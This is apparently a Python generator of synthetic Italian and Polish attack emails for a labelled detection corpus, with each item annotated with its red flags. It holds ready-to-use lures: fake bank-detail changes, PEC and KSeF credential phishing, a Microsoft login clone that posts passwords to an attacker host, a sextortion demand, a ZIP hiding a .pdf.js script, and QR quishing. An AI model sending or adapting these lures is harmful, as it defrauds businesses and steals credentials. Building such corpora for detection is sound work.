"""Attack messages: Italian (17-21) and Polish (22-26)."""
import base64

import banking as bk
import docs
import qr
import zips
from company import *
from infra import (exim_cpanel, hosting_postfix, libero, m365, mailgun, sharepoint, spoofed_bot, vps_postfix)
from message import (alt, att, compose, mixed, msgid_of, outlook_alt, plain2html_simple, related)
from mime import Multi, Text
from util import hexs, rng, utc, uuid4

F = "attack"


def _b64(s):
    return base64.urlsafe_b64encode(s.encode()).decode().rstrip("=")


def a17():
    text = """Gentile Francesca,

come anticipato stamattina telefonicamente alla vostra collega, Vi informiamo che a seguito di una verifica fiscale in corso il nostro conto presso Intesa Sanpaolo è temporaneamente bloccato per le operazioni in entrata.

Fino a nuova comunicazione Vi chiediamo quindi di effettuare i pagamenti sul conto della nostra società di servizi finanziari del gruppo:

Intestatario: Ferretti Trasporti S.p.A.
Banca: Revolut Bank UAB
IBAN: %s
BIC: REVOLT21

Vi preghiamo di saldare con cortese urgenza le fatture n. 2026/0954 e 2026/0978 (totale EUR 7.299,40), già scadute, per evitare la sospensione dei ritiri della prossima settimana. Vi chiediamo di inviarci la contabile del bonifico in risposta a questa e-mail.

Per motivi di riservatezza legati alla verifica Vi preghiamo di non contattare il nostro ufficio amministrativo per telefono: la pratica è seguita esclusivamente da me.

Cordiali saluti

Chiara Colombo
Ufficio Traffico e Commerciale
Ferretti Trasporti S.p.A.
Via dei Confini 214 - 50013 Campi Bisenzio (FI)
Tel. +39 055 8979 411 - www.ferretti-trasporti.it
""" % bk.fmt_iban(FERRETTI_FAKE_IBAN)
    compose(F, 17, "it", "ferretti-cambio-iban-dominio-sosia", vps_postfix, utc(2026, 11, 6, 10, 18),
            IT_ACC.addr, ("Chiara Colombo", "c.colombo@ferretti-trasporti.com"), [IT_ACC.t],
            "R: Fatture scadute - nuove coordinate bancarie",
            lambda B: alt(B, 0, text, plain2html_simple(text), "windows-1252", "quoted-printable"),
            cc=[("Amministrazione", "amministrazione@ferretti-trasporti.com")], hcs="windows-1252", henc="Q",
            pkw=dict(host="mail.ferretti-trasporti.com", ip="51.68.183.%d" % 27, rdns="vps-7a1c02d4.vps.ovh.net",
                     mua="tb", lang="it-IT", webmail=False, cip="41.250.27.%d" % 133),
            what="Carrier bank-detail change from a look-alike domain (.com instead of .it)",
            why="ferretti-trasporti.com on an OVH VPS, account 'temporarily blocked by a tax audit', new IBAN at a Lithuanian EMI, urgency with the real overdue invoices (reconnaissance), forbids phone verification, fake 'R:' reply to feign an existing thread.")


def a18():
    url = "https://rinnovo-pec.aruba-servizi-clienti.com/login/?dominio=pec.exampleitalia.it&id=%s" % hexs(rng("a18"), 10)
    plain = """Gentile Cliente,

la casella PEC amministrazione@pec.exampleitalia.it risulta in scadenza il 18/11/2026.

Per evitare la sospensione del servizio e la perdita dei messaggi archiviati è necessario confermare il rinnovo entro 48 ore accedendo all'area clienti:

%s

Se il rinnovo non verrà effettuato entro la data indicata, la casella sarà disattivata e non sarà più possibile ricevere notifiche con valore legale.

Cordiali saluti,
Aruba PEC S.p.A. - Servizio Clienti
""" % url
    html = ('<html><head><meta http-equiv="Content-Type" content="text/html; charset=iso-8859-1"></head><body style="font-family:Arial,sans-serif;font-size:14px;color:#333">'
            '<table width="600" align="center" style="border:1px solid #ddd"><tr><td style="background:#ff6a00;color:#fff;padding:14px 20px;font-size:20px;font-weight:bold">Aruba.it &nbsp;<span style="font-size:13px">PEC</span></td></tr>'
            '<tr><td style="padding:20px"><p>Gentile Cliente,</p><p>la casella PEC <b>amministrazione@pec.exampleitalia.it</b> risulta in scadenza il <b>18/11/2026</b>.</p>'
            '<p>Per evitare la sospensione del servizio e la perdita dei messaggi archiviati è necessario confermare il rinnovo entro <b>48 ore</b>.</p>'
            '<p style="text-align:center"><a href="%s" style="background:#ff6a00;color:#fff;padding:12px 30px;text-decoration:none;font-weight:bold">RINNOVA ORA</a></p>'
            '<p>Se il rinnovo non verrà effettuato entro la data indicata, la casella sarà disattivata e non sarà più possibile ricevere notifiche con valore legale.</p>'
            '<p>Cordiali saluti,<br>Aruba PEC S.p.A. - Servizio Clienti</p></td></tr></table></body></html>\n' % url)
    compose(F, 18, "it", "aruba-pec-scadenza-phishing", exim_cpanel, utc(2026, 11, 12, 6, 3),
            IT_MGR.addr, ("Aruba PEC", "noreply@studiodentisticorinaldi.it"), [IT_MGR.t],
            "La tua casella PEC amministrazione@pec.exampleitalia.it scadrà il 18/11/2026",
            lambda B: alt(B, 0, plain, html, "iso-8859-1", "quoted-printable"), hcs="iso-8859-1", henc="Q",
            pkw=dict(host="server61.hostingsicuro.net", ip="93.186.254.%d" % 61, php="wp-includes/js/tinymce/utils/mailer-upd.php",
                     user="studiodr", site="studiodentisticorinaldi.it"),
            what="Aruba PEC expiry phishing from a hacked dentist's website",
            why="'Aruba PEC' sender address belongs to a dental practice; PHPMailer script hidden in wp-includes; link to aruba-servizi-clienti.com harvests PEC credentials and card data; 48-hour threat.")


def a19():
    r = rng("a19")
    fname = "IT%s_%s" % (EXAMPLE_IT_PIVA, hexs(r, 5))
    post = "https://sdi-ricevute.fatturapa-notifiche.it/api/v2/auth"
    att_html = ('<!DOCTYPE html>\n<html lang="it"><head><meta charset="utf-8"><title>Ricevuta di scarto - %s</title>\n'
                '<style>body{font-family:Segoe UI,Arial,sans-serif;background:#f2f2f2}.box{width:380px;margin:60px auto;background:#fff;padding:36px;box-shadow:0 2px 6px rgba(0,0,0,.2)}'
                'input{width:100%%;padding:8px;margin:8px 0;border:0;border-bottom:1px solid #666}button{background:#0067b8;color:#fff;border:0;padding:8px 30px;float:right}</style></head>\n'
                '<body><div class="box"><div style="font-size:20px;font-weight:600">Microsoft</div>'
                '<p>Il documento <b>RicevutaScarto_%s.xml</b> è protetto.<br>Accedi con l\'account aziendale per visualizzarlo.</p>\n'
                '<form method="post" action="%s">\n'
                '<input type="email" name="login" value="%s" placeholder="Email, telefono o Skype">\n'
                '<input type="password" name="passwd" placeholder="Password">\n'
                '<input type="hidden" name="doc" value="%s">\n'
                '<button type="submit">Accedi</button></form><p style="font-size:12px;clear:both;padding-top:20px">Sistema di Interscambio - Visualizzatore ricevute</p></div></body></html>\n'
                % (fname, fname, post, IT_ACC.addr, fname))
    plain = """Notifica di scarto

Il file fattura %s.xml trasmesso in data 19/10/2026 è stato scartato dal Sistema di Interscambio.

Codice errore: 00404 - Fattura duplicata
Identificativo SdI: %d

La fattura non si considera emessa. Per consultare la ricevuta completa e procedere al reinvio entro i termini di legge (5 giorni), aprire l'allegato e accedere con le credenziali aziendali.

Sistema di Interscambio - Agenzia delle Entrate
Messaggio generato automaticamente, non rispondere.
""" % (fname, r.randrange(10 ** 10, 10 ** 11))
    compose(F, 19, "it", "sdi-notifica-scarto-allegato-html", mailgun, utc(2026, 10, 20, 13, 41),
            IT_ACC.addr, ("Sistema di Interscambio", "notifiche@sdi-fatturapa.info"), [IT_ACC.t],
            "Notifica di scarto - fattura %s - codice errore 00404" % fname,
            lambda B: mixed(B, 1, Text(plain, "plain", "utf-8", "8bit"),
                            att(att_html.encode("utf-8"), "text/html", "RicevutaScarto_%s.html" % fname, charset="utf-8")),
            pkw=dict(mgdom="mg.sdi-fatturapa.info", tag="notifiche"),
            what="Fake SdI e-invoice rejection with an HTML credential-phishing attachment",
            why="The SdI delivers receipts via PEC/portal, never ordinary mail from a .info domain; HTML attachment is a Microsoft login clone (pre-filled address) posting to an attacker host; 5-day legal pressure.")


def a20():
    addr = bk.btc_addresses("a20-example")["bech32"]
    text = """Salve,

sono un hacker e ho avuto accesso al tuo dispositivo da cui leggi la posta. Ho installato un programma sul tuo computer tramite un sito per adulti che hai visitato qualche mese fa.

Ti ho inviato questa e-mail dal TUO account (%s): questo dimostra che ho accesso completo.

Ho registrato un video con la tua webcam mentre guardavi quei siti e ho salvato tutti i tuoi contatti, e-mail e messaggi.

Se vuoi che io cancelli tutto, trasferisci 1450 USD in Bitcoin al mio portafoglio:

%s

Se non sai come fare, cerca su Google "comprare Bitcoin". Hai 48 ore da quando apri questa e-mail (ho un pixel di notifica). Se non ricevo il pagamento, invierò il video a tutti i tuoi colleghi e contatti.

Non rispondere a questa e-mail e non rivolgerti alla polizia: me ne accorgerei subito.
""" % (IT_MGR.addr, addr)
    compose(F, 20, "it", "sextortion-bitcoin-mittente-falsificato", spoofed_bot, utc(2026, 10, 31, 1, 12),
            IT_MGR.addr, ("Lorenzo Bernardi", IT_MGR.addr), [IT_MGR.t],
            "%s - il tuo account è stato violato" % IT_MGR.addr,
            lambda B: Text(text, "plain", "iso-8859-1", "8bit"), hcs="iso-8859-1", henc="B",
            pkw=dict(ip="113.161.84.%d" % 27, helo="static.vnpt.vn", rdns="static.vnpt.vn", zone="ICT",
                     rp="prometheus@afruskin.co.za"),
            what="Sextortion scam with the recipient's own address forged as sender",
            why="From = recipient but sent directly by a Vietnamese DSL host without TLS and with an unrelated bounce address; generic threat, 48-hour deadline and Bitcoin address.")


def a21():
    pw = "8712"
    z = zips.make_zip([("Fattura_87_2026.pdf.js", docs.PLACEHOLDER)], password=pw,
                      when=(2026, 11, 16, 7, 51, 20), seed="a21")
    text = """Buongiorno,

in allegato la fattura n. 87/2026 e il DDT relativi alla consegna del 12/11.
Per motivi di privacy il file è protetto, la password è: %s

Cordiali saluti
Lucia Rossi
""" % pw
    compose(F, 21, "it", "casella-libero-compromessa-zip-js", libero, utc(2026, 11, 16, 6, 54),
            IT_ACC.addr, ("Confezioni Rossi", "confezioni.rossi@libero.it"), [IT_ACC.t],
            "Invio documento: Fattura 87/2026 e DDT",
            lambda B: mixed(B, 1, Text(text, "plain", "UTF-8", "quoted-printable"),
                            att(z, "application/zip", "Fattura_87_2026.zip")),
            what="Malspam from the subcontractor's genuinely compromised Libero mailbox",
            why="Real sender and infrastructure, but unlike her usual mail (business/21, plain PDFs, informal 'ciao') it carries a password-protected ZIP with a .pdf.js script, impersonal wording, password in body.",
            meta=dict(zip_pw=pw))


# ------------------------------------------------------------------ Polish
def a22():
    orig = msgid_of("business", 22)
    text = """Dzień dobry Pani Małgorzato,

w nawiązaniu do faktury FV/2026/11/0387 uprzejmie informujemy, że w związku z trwającym audytem zewnętrznym rachunek w PKO BP został czasowo zablokowany dla wpływów.

Prosimy o dokonanie płatności za fakturę (oraz kolejne faktury do odwołania) na nasz rachunek pomocniczy w Alior Banku:

%s

Rachunek zostanie zgłoszony do wykazu podatników VAT w ciągu kilku dni, prosimy się tym nie sugerować. Jeśli to możliwe, prosimy o przelew jeszcze w tym tygodniu i przesłanie potwierdzenia w odpowiedzi na tę wiadomość.

Z poważaniem
Dział Księgowości
Partner Logistik sp. z o.o.
ul. Warszawska 102, 95-010 Stryków

Od: Księgowość Partner Logistik <ksiegowosc@partner-logistik.pl>
Wysłano: wtorek, 10 listopada 2026 11:41
Do: Małgorzata Kałużna <malgorzata.kaluzna@example.com>
Temat: Faktura FV/2026/11/0387 - Example Polska sp. z o.o.

Dzień dobry,
w załączeniu przesyłamy wizualizację faktury FV/2026/11/0387 ...
""" % bk.nrb(PARTNER_FAKE_IBAN)
    compose(F, 22, "pl", "przejeta-skrzynka-partnera-zmiana-rachunku", m365, utc(2026, 11, 20, 14, 2),
            PL_ACC.addr, ("Księgowość Partner Logistik", "ksiegowosc@partner-logistik.pl"), [PL_ACC.t],
            "RE: Faktura FV/2026/11/0387 - Example Polska sp. z o.o.",
            lambda B: outlook_alt(B, 0, text, "iso-8859-2", lang="PL"),
            reply_to=[("Księgowość Partner Logistik", "ksiegowosc@partner-logistlk.pl")], irt=orig, refs=orig,
            hcs="iso-8859-2", henc="Q",
            pkw=dict(lang="pl-PL", org="partner-logistik.pl", tenant="5f1c2a77-0b3e-4d6a-9c21-7e8d4b2a9f10"),
            what="Thread hijack from the partner's genuinely compromised M365 accounting mailbox",
            why="Real tenant and real thread, but Reply-To points to look-alike partner-logistlk.pl, 'audit-blocked' account, new account at another bank that is NOT on the VAT white list (split-payment/white-list red flag), contradicts the board letter in business/23.")


def a23():
    r = rng("a23")
    ksef = "%s-20261124-%s-%s" % (EXAMPLE_PL_NIP, hexs(r, 12, True), hexs(r, 2, True))
    url = "https://ksef-podatki.gov-pl.eu/web/faktura/%s?nip=%s" % (ksef, EXAMPLE_PL_NIP)
    plain = """Krajowy System e-Faktur

Szanowni Państwo,

w Krajowym Systemie e-Faktur (KSeF) została udostępniona faktura ustrukturyzowana dla podmiotu o NIP %s (Example Polska sp. z o.o.), która wymaga akceptacji odbiorcy.

Numer KSeF: %s
Wystawca: PARTNER LOGISTIK SP. Z O.O.
Kwota brutto: 48 211,37 PLN

Brak akceptacji w ciągu 72 godzin spowoduje naliczenie sankcji zgodnie z art. 106gb ustawy o VAT.

Aby pobrać fakturę, zaloguj się do Aplikacji Podatnika KSeF za pomocą Profilu Zaufanego lub tokenu:
%s

Ministerstwo Finansów
Wiadomość wygenerowana automatycznie - prosimy na nią nie odpowiadać.
""" % (EXAMPLE_PL_NIP, ksef, url)
    html = ('<html><head><meta http-equiv="Content-Type" content="text/html; charset=windows-1250"></head><body style="font-family:Lato,Arial,sans-serif;font-size:14px;color:#1b1b1b">'
            '<table width="620" align="center"><tr><td style="border-bottom:3px solid #dc143c;padding:14px 0;font-size:20px"><b>Krajowy System e-Faktur</b> &nbsp;<span style="font-size:12px;color:#555">Ministerstwo Finansów</span></td></tr>'
            '<tr><td style="padding:18px 0"><p>Szanowni Państwo,</p><p>w Krajowym Systemie e-Faktur (KSeF) została udostępniona faktura ustrukturyzowana dla podmiotu o NIP <b>%s</b> (Example Polska sp. z o.o.), która wymaga akceptacji odbiorcy.</p>'
            '<p>Numer KSeF: <b>%s</b><br>Wystawca: PARTNER LOGISTIK SP. Z O.O.<br>Kwota brutto: 48 211,37 PLN</p>'
            '<p style="color:#dc143c">Brak akceptacji w ciągu 72 godzin spowoduje naliczenie sankcji zgodnie z art. 106gb ustawy o VAT.</p>'
            '<p><a href="%s" style="background:#0052a5;color:#fff;padding:10px 24px;text-decoration:none">Zaloguj się do Aplikacji Podatnika KSeF</a></p>'
            '<p style="font-size:11px;color:#666">Wiadomość wygenerowana automatycznie - prosimy na nią nie odpowiadać.</p></td></tr></table></body></html>\n'
            % (EXAMPLE_PL_NIP, ksef, url))
    compose(F, 23, "pl", "ksef-faktura-wymaga-akceptacji-phishing", exim_cpanel, utc(2026, 11, 24, 7, 26),
            PL_ACC.addr, ("KSeF - Ministerstwo Finansów", "biuro@instal-bud-radom.pl"), [PL_ACC.t],
            "Nowa faktura w KSeF wymaga akceptacji - nr %s" % ksef,
            lambda B: alt(B, 0, plain, html, "windows-1250", "quoted-printable"), hcs="windows-1250", henc="Q",
            pkw=dict(host="s143.cyber-folks.pl", ip="195.78.66.%d" % 143, cip="185.220.101.%d" % 47),
            what="KSeF (Polish national e-invoicing) credential phishing from a hijacked small-firm mailbox",
            why="KSeF has no recipient 'acceptance' and does not e-mail such notices; sent from a plumbing firm's webmail (Tor exit client IP), gov-pl.eu look-alike asking for Profil Zaufany / KSeF token, invented sanction threat.")


def a24():
    r = rng("a24")
    url = "https://dpd-doplata.pl-paczka.net/p/%s" % hexs(r, 8)
    png = qr.qr_png(url, scale=5)
    plain = """DPD Polska

Twoja paczka 0000 3456 7890 1U została wstrzymana w oddziale Łódź-Olechów z powodu niedopłaty za przekroczenie gabarytu.

Kwota dopłaty: 2,99 zł

Zeskanuj kod QR telefonem, aby opłacić dopłatę i wybrać nowy termin doręczenia. Paczka zostanie zwrócona do nadawcy po 3 dniach.

DPD Polska sp. z o.o.
"""
    html = ('<html><head><meta http-equiv="Content-Type" content="text/html; charset=iso-8859-2"></head><body style="font-family:Arial,sans-serif">'
            '<table width="560" align="center" style="border:1px solid #ccc"><tr><td style="background:#dc0032;color:#fff;padding:14px;font-size:24px;font-weight:bold">dpd</td></tr>'
            '<tr><td style="padding:20px;font-size:14px"><p>Twoja paczka <b>0000 3456 7890 1U</b> została wstrzymana w oddziale Łódź-Olechów z powodu niedopłaty za przekroczenie gabarytu.</p>'
            '<p>Kwota dopłaty: <b>2,99 zł</b></p><p>Zeskanuj kod QR telefonem, aby opłacić dopłatę i wybrać nowy termin doręczenia.</p>'
            '<p style="text-align:center"><img src="cid:kod-dpd" width="185" height="185" alt="kod QR"></p>'
            '<p style="font-size:12px;color:#777">Paczka zostanie zwrócona do nadawcy po 3 dniach. DPD Polska sp. z o.o.</p></td></tr></table></body></html>\n')
    compose(F, 24, "pl", "dpd-doplata-kod-qr-quishing", vps_postfix, utc(2026, 10, 29, 9, 33),
            PL_SALES.addr, ("DPD Polska", "powiadomienia@dpd-paczka24.pl"), [PL_SALES.t],
            "Paczka 0000 3456 7890 1U wstrzymana - dopłata 2,99 zł",
            lambda B: Multi("alternative", [Text(plain, "plain", "iso-8859-2", "base64"),
                                            related(B, 1, Text(html, "html", "iso-8859-2", "base64"),
                                                    att(png, "image/png", "kod_qr.png", disp="inline", cid="kod-dpd"))], B(0)),
            hcs="iso-8859-2", henc="B",
            pkw=dict(host="vmi2284716.contaboserver.net", ip="185.227.134.%d" % 88, mua="phpmailer", tls="1.2",
                     rp="powiadomienia@dpd-paczka24.pl"),
            what="Courier 'surcharge' quishing with the payment link only inside a QR code",
            why="DPD look-alike domain on a Contabo VPS, QR hides the card-phishing URL (pl-paczka.net) from link scanners, tiny amount and return threat.",
            meta=dict(has_qr=True))


def a25():
    pdfb = docs.letter_pdf([
        ("KRDG - Krajowy Rejestr Działalności Gospodarczej", 12, True), ("ul. Prosta 51, 00-838 Warszawa", 8, False), "",
        ("FAKTURA PRO FORMA nr KRDG/2026/11873", 12, True), "Data: 04.12.2026", "",
        "Nabywca: EXAMPLE POLSKA SP. Z O.O., ul. Piotrkowska 270, 90-361 Łódź, KRS 0000734112", "---",
        "Wpis i publikacja danych w Krajowym Rejestrze Działalności Gospodarczej (12 miesięcy)   1 190,00 zł",
        "VAT 23%                                                                                        273,70 zł",
        ("Do zapłaty                                                                                  1 463,70 zł", 10, True), "---",
        "Termin płatności: 14 dni   Rachunek: %s" % bk.nrb(PL_REGISTER_FAKE), "",
        ("Niniejszy dokument stanowi ofertę wpisu do prywatnej bazy danych i nie jest wezwaniem organu państwowego.", 6, False),
        ("Dokonanie wpłaty oznacza akceptację regulaminu i zawarcie umowy na okres 12 miesięcy z automatycznym przedłużeniem.", 6, False)],
        title="Proforma KRDG/2026/11873", author="KRDG", producer="TCPDF 6.6.5", creator="TCPDF")
    text = """Szanowni Państwo,

w związku z aktualizacją danych podmiotu EXAMPLE POLSKA SP. Z O.O. (KRS 0000734112) w Krajowym Rejestrze Działalności Gospodarczej przesyłamy w załączeniu fakturę pro forma nr KRDG/2026/11873.

Kwota do zapłaty: 1 463,70 zł
Termin płatności: 14 dni od daty otrzymania
Rachunek: %s

Brak wpłaty może skutkować usunięciem danych podmiotu z rejestru.

Z poważaniem
Dział Rejestracji KRDG
""" % bk.nrb(PL_REGISTER_FAKE)
    compose(F, 25, "pl", "falszywy-rejestr-proforma-oplata-wpisu", hosting_postfix, utc(2026, 12, 7, 8, 10),
            PL_ACC.addr, ("Krajowy Rejestr Działalności Gospodarczej", "rejestracja@krdg-rejestr.pl"), [PL_ACC.t],
            "Wezwanie do uiszczenia opłaty - wpis EXAMPLE POLSKA SP. Z O.O. (KRS 0000734112)",
            lambda B: mixed(B, 1, Text(text, "plain", "windows-1250", "8bit"),
                            att(pdfb, "application/pdf", "Faktura_proforma_KRDG_2026_11873.pdf")),
            hcs="windows-1250", henc="Q",
            pkw=dict(host="srv42.mydevil.net", ip="128.204.218.%d" % 42, mua="Symfony Mailer", cip="31.61.178.%d" % 9),
            what="Fake business-register 'payment demand' (pro-forma disguised as a state fee)",
            why="Name mimics the official registers (KRS/CEIDG are free public registers), uses public KRS data, 'removal from register' threat, small print reveals a private database offer that becomes a 12-month contract on payment.")


def a26():
    r = rng("a26")
    link = "https://elmontserwis-my.sharepoint.com/:b:/g/personal/b_lis_elmont-serwis_pl/E%s?e=%s" % (hexs(r, 10) + "Bq" + hexs(r, 10), "Wq3tYb")
    plain = """Bartosz Lis udostępnił Ci plik

Korekta faktury 11-2026 Example Polska.pdf

W załączeniu korekta faktury - proszę o pilne zatwierdzenie.

Otwórz: %s

Ten link działa tylko w przypadku bezpośrednich adresatów tej wiadomości.

Zasady zachowania poufności informacji firmy Microsoft: https://go.microsoft.com/fwlink/?LinkId=521839
""" % link
    html = ('<html><head><meta http-equiv="Content-Type" content="text/html; charset=utf-8"></head><body style="font-family:\'Segoe UI\',sans-serif">'
            '<table width="520" align="center" style="border:1px solid #e1dfdd"><tr><td style="padding:24px">'
            '<div style="font-size:21px;color:#242424">Bartosz Lis udostępnił Ci plik</div>'
            '<div style="padding:16px 0;font-size:14px;color:#424242">W załączeniu korekta faktury - proszę o pilne zatwierdzenie.</div>'
            '<div style="padding:12px;border:1px solid #e1dfdd"><b>Korekta faktury 11-2026 Example Polska.pdf</b></div>'
            '<div style="padding-top:20px"><a href="%s" style="background:#0f6cbd;color:#fff;padding:8px 18px;text-decoration:none;border-radius:4px">Otwórz</a></div>'
            '<div style="padding-top:20px;font-size:12px;color:#616161">Ten link działa tylko w przypadku bezpośrednich adresatów tej wiadomości.</div>'
            '</td></tr><tr><td style="padding:12px 24px;font-size:11px;color:#616161">Microsoft SharePoint | '
            '<a href="https://go.microsoft.com/fwlink/?LinkId=521839">Zasady zachowania poufności informacji firmy Microsoft</a></td></tr></table></body></html>\n' % link)
    compose(F, 26, "pl", "sharepoint-udostepnienie-przejety-tenant", sharepoint, utc(2026, 12, 10, 13, 27),
            PL_MGR.addr, ("Bartosz Lis (za pośrednictwem usługi SharePoint Online)", "no-reply@sharepointonline.com"),
            [PL_MGR.t], "Bartosz Lis udostępnił Ci plik „Korekta faktury 11-2026 Example Polska.pdf”",
            lambda B: alt(B, 0, plain, html, "utf-8", "base64"),
            reply_to=[("Bartosz Lis", "b.lis@elmont-serwis.pl")],
            pkw=dict(org="elmont-serwis.pl", lang="pl-PL"),
            what="Abused genuine SharePoint sharing notification from a compromised unrelated tenant",
            why="Genuine Microsoft infrastructure, but sent from an electrical contractor's tenant with no business relationship; 'invoice correction' lure leads to a OneDrive PDF/OneNote with a link to an AiTM login page (multi-stage).")


def build():
    for f in (a17, a18, a19, a20, a21, a22, a23, a24, a25, a26):
        f()
